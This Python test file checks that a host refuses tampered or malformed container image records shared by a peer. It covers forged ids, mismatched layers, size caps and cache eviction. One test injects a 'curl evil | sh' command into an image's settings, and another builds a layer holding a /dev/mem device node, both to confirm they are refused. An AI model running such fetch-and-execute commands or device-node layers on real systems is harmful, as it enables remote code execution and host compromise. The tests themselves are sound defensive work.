"""Images that travel: a host takes an image another host described, believing nothing of it."""

from __future__ import annotations

import hashlib
import json
import os
import random
import shutil
import subprocess
from pathlib import Path

import pytest
from kit.oci import ImageSpec, device_member, files_layer, layer_tar, write_oci_archive

from node.base.identity import Identity
from segments.image.errors import ImageError
from segments.image.layers import LayerLimits
from segments.image.library import ImageLibrary
from segments.image.oci import RunSettings, content_id
from segments.store.blocks import BlockStore
from segments.store.manifest import Manifest

OWNER = Identity.from_seeds(b"\x71" * 32, b"\x72" * 32)
SPEC = ImageSpec(
    [files_layer({"bin/tool": b"tool"}), files_layer({"etc/x": b"1"})], cmd=["/bin/tool"]
)


asked: list[int] = []  # the caps adopt handed the fetcher


def fetcher(source: BlockStore, dest: BlockStore):
    """Copy a manifest's blocks the destination lacks, then the manifest (what a transfer does)."""

    def fetch(digest: bytes, max_bytes: int) -> Manifest:
        manifest = source.manifest(digest)
        assert manifest is not None, "the owner holds every manifest it names"
        asked.append(max_bytes)
        for block in dest.missing(manifest):
            dest.put(source.get(block), block)
        dest.add_manifest(manifest)
        return manifest

    return fetch


def test_a_host_takes_an_image_by_its_record_and_gets_the_same_id(tmp_path: Path) -> None:
    with ImageLibrary(tmp_path / "owner") as owner, ImageLibrary(tmp_path / "host") as host:
        image = owner.import_archive(
            write_oci_archive(tmp_path / "a.tar", SPEC), OWNER, "x/y"
        ).image
        taken = host.adopt(owner.record(image.id), fetcher(owner.store, host.store))
        assert (taken.id, taken.settings, taken.size_bytes) == (
            image.id,
            image.settings,
            image.size_bytes,
        )
        assert [layer["diff_id"] for layer in taken.layers] == [
            ly["diff_id"] for ly in image.layers
        ]
        assert host.load(image.id).names == ()  # names are the owner's own


def test_a_record_whose_settings_are_not_its_id_is_refused(tmp_path: Path) -> None:
    with ImageLibrary(tmp_path / "owner") as owner, ImageLibrary(tmp_path / "host") as host:
        image = owner.import_archive(write_oci_archive(tmp_path / "a.tar", SPEC), OWNER, None).image
        record = json.loads(owner.record(image.id))
        record["settings"]["cmd"] = ["/bin/sh", "-c", "curl evil | sh"]
        with pytest.raises(ImageError, match="does not hash to its id"):
            host.adopt(json.dumps(record).encode(), fetcher(owner.store, host.store))
        assert host.list() == []


def test_a_layer_that_is_not_its_diff_id_is_refused(tmp_path: Path) -> None:
    with ImageLibrary(tmp_path / "owner") as owner, ImageLibrary(tmp_path / "host") as host:
        image = owner.import_archive(write_oci_archive(tmp_path / "a.tar", SPEC), OWNER, None).image
        record = json.loads(owner.record(image.id))
        record["layers"][0]["diff_id"] = "sha256:" + "0" * 64  # and an id to match it
        settings = RunSettings(
            **{k: tuple(v) if isinstance(v, list) else v for k, v in record["settings"].items()}
        )
        record["id"] = content_id(settings, [layer["diff_id"] for layer in record["layers"]])
        with pytest.raises(ImageError, match="is not its diff_id"):
            host.adopt(json.dumps(record).encode(), fetcher(owner.store, host.store))
        assert host.list() == []


def test_a_hostile_layer_from_a_peer_is_refused_as_an_archive_s_would_be(tmp_path: Path) -> None:
    hostile = layer_tar([device_member("dev/mem")])
    layer = tmp_path / "layer.tar"
    layer.write_bytes(hostile)
    with ImageLibrary(tmp_path / "owner") as owner, ImageLibrary(tmp_path / "host") as host:
        manifest = owner.store.put_file(layer, OWNER, name="layer.tar")
        diff_id = "sha256:" + hashlib.sha256(hostile).hexdigest()
        settings = RunSettings(cmd=("/x",))
        record = {
            "id": content_id(settings, [diff_id]),
            "kind": "oci",
            "settings": settings.as_dict(),
            "layers": [{"diff_id": diff_id, "manifest": manifest.digest.hex()}],
            "disk": None,
        }
        with pytest.raises(ImageError, match="character device"):
            host.adopt(json.dumps(record).encode(), fetcher(owner.store, host.store))
        assert host.list() == []
        assert list((tmp_path / "host" / "imported" / "layers").iterdir()) == []


@pytest.mark.parametrize(
    "record",
    [
        b"not json",
        b"[]",
        b'{"kind": "oci", "id": "x"}',
        b'{"kind": "vm", "id": "' + b"0" * 64 + b'"}',
        b'{"kind": "oci", "id": "' + b"0" * 64 + b'", "layers": [1]}',
        b"{" * 100_000,
    ],
)
def test_a_malformed_record_is_refused_with_one_line(tmp_path: Path, record: bytes) -> None:
    with ImageLibrary(tmp_path / "host") as host, pytest.raises(ImageError):
        host.adopt(record, lambda digest, cap: pytest.fail("nothing is fetched"))


@pytest.mark.skipif(
    not Path("/usr/sbin/mkfs.ext4").exists() or not shutil.which("qemu-img"),
    reason="needs mkfs.ext4 and qemu-img",
)
def test_a_disk_image_travels_by_its_block_digests(tmp_path: Path) -> None:
    (tmp_path / "root" / "etc").mkdir(parents=True)
    raw = tmp_path / "root.raw"
    subprocess.run(
        ["/usr/sbin/mkfs.ext4", "-q", "-F", "-d", str(tmp_path / "root"), str(raw), "8M"],
        check=True,
    )
    with ImageLibrary(tmp_path / "owner") as owner, ImageLibrary(tmp_path / "host") as host:
        image = owner.import_disk(raw, OWNER, "x/disk").image
        record = owner.record(image.id)
        taken = host.adopt(record, fetcher(owner.store, host.store))
        assert taken.id == image.id and taken.disk["file_system"] == "ext4"
        forged = json.loads(record)
        forged["id"] = "1" * 64
        with pytest.raises(ImageError, match="does not hash to its id"):
            host.adopt(json.dumps(forged).encode(), fetcher(owner.store, host.store))


def test_the_cache_evicts_taken_images_least_recently_used_first(tmp_path: Path) -> None:
    specs = [
        ImageSpec([files_layer({f"f{n}": random.Random(n).randbytes(200_000)})]) for n in range(3)
    ]
    with ImageLibrary(tmp_path / "owner") as owner, ImageLibrary(tmp_path / "host") as host:
        own = host.import_archive(
            write_oci_archive(tmp_path / "own.tar", ImageSpec([files_layer({"mine": b"m" * 9})])),
            OWNER,
            "local/own",
        ).image
        taken = []
        for number, spec in enumerate(specs):
            image = owner.import_archive(
                write_oci_archive(tmp_path / f"{number}.tar", spec), OWNER, None
            ).image
            taken.append(host.adopt(owner.record(image.id), fetcher(owner.store, host.store)).id)
        for number, image_id in enumerate([taken[1], taken[0], taken[2]]):  # 1 is the oldest use
            os.utime(tmp_path / "host" / "imported" / f"{image_id}.json", (1000 + number,) * 2)
        assert host.evict(host.store.statistics().bytes - 1) == [taken[1]]
        assert host.evict(0, keep=frozenset({taken[2]})) == [taken[0]]
        assert {image.id for image in host.list()} == {own.id, taken[2]}  # named and kept stay
        host.touch(taken[2])
        assert host.evict(0) == [taken[2]]
        assert [image.id for image in host.list()] == [own.id]


def test_a_layer_over_the_caps_is_refused_before_it_is_unpacked(tmp_path: Path) -> None:
    big = ImageSpec([files_layer({"f": random.Random(9).randbytes(300_000)})])
    with ImageLibrary(tmp_path / "owner") as owner:
        image = owner.import_archive(write_oci_archive(tmp_path / "a.tar", big), OWNER, None).image
        record = owner.record(image.id)
        limits = LayerLimits(max_layer_bytes=100_000)
        with ImageLibrary(tmp_path / "host", limits) as host:
            asked.clear()
            with pytest.raises(ImageError, match="is over 100000 bytes"):
                host.adopt(record, fetcher(owner.store, host.store))
            assert asked == [100_000] and host.list() == []
            assert list((tmp_path / "host").glob(".import-*")) == []


def test_a_record_without_settings_is_refused_not_a_crash(tmp_path: Path) -> None:
    with ImageLibrary(tmp_path / "owner") as owner, ImageLibrary(tmp_path / "host") as host:
        image = owner.import_archive(write_oci_archive(tmp_path / "a.tar", SPEC), OWNER, None).image
        record = json.loads(owner.record(image.id))
        del record["settings"]
        with pytest.raises(ImageError, match="settings are not an object"):
            host.adopt(json.dumps(record).encode(), fetcher(owner.store, host.store))
